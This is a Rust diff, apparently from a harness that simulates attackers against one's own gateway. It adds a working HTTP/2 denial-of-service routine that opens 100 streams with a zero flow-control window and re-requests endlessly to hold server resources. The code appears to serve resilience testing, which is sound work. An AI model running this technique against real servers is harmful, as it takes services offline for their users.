@@ -1,14 +1,21 @@
-//! The acts of one attacker on one clear-text connection, until it is cut.
+//! The acts of one attacker on one connection, until it is cut.
 
 use std::io;
 use std::sync::Arc;
 use std::time::Duration;
 
+use h2::client::{Builder, SendRequest};
+use hyper::body::Bytes;
+use hyper::{Request, StatusCode};
 use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
 use tokio::net::TcpStream;
+use tokio::task::JoinSet;
 use tokio::time::{sleep, timeout};
 
 use super::crowd::Attacker;
+
+/// As many streams as the gateway allows one connection.
+const STREAMS: u32 = 100;
 
 /// Reads a few bytes of an answer now and then.
 #[derive(Clone, Copy)]
@@ -98,6 +105,44 @@ pub(super) async fn sign_up(attacker: Arc<Attacker>) -> io::Result<()> {
         }
     }
     Ok(())
+}
+
+/// Gives answers no room: over HTTP/2 (RFC 9113), it has a window of 0 and as many streams as
+/// allowed, which it holds open until the connection is cut.
+pub(super) async fn hold_streams(attacker: Arc<Attacker>, path: &'static str) -> io::Result<()> {
+    let stream = attacker.target.open(attacker.source, "h2").await?;
+    let mut builder = Builder::new();
+    builder.initial_window_size(0).header_table_size(0);
+    let shaken = builder.handshake(stream).await;
+    let (sender, connection) = shaken.map_err(io::Error::other)?;
+    let mut streams = JoinSet::new();
+    for _ in 0..STREAMS {
+        streams.spawn(ask_again(Arc::clone(&attacker), sender.clone(), path));
+    }
+    connection.await.map_err(io::Error::other)
+}
+
+/// Asks again whenever its stream is refused or over.
+async fn ask_again(
+    attacker: Arc<Attacker>,
+    mut sender: SendRequest<Bytes>,
+    path: &str,
+) -> Result<(), h2::Error> {
+    loop {
+        sender = sender.ready().await?;
+        let mut request = Request::new(());
+        *request.uri_mut() = format!("https://localhost{path}")
+            .parse()
+            .unwrap_or_default();
+        let (answer, _) = sender.send_request(request, true)?;
+        if let Ok(answer) = answer.await
+            && answer.status() == StatusCode::OK
+        {
+            let mut body = answer.into_body();
+            while let Some(Ok(_)) = body.data().await {}
+        }
+        attacker.pace.turn().await;
+    }
 }
 
 async fn get(stream: &mut TcpStream, path: &str) -> io::Result<()> {
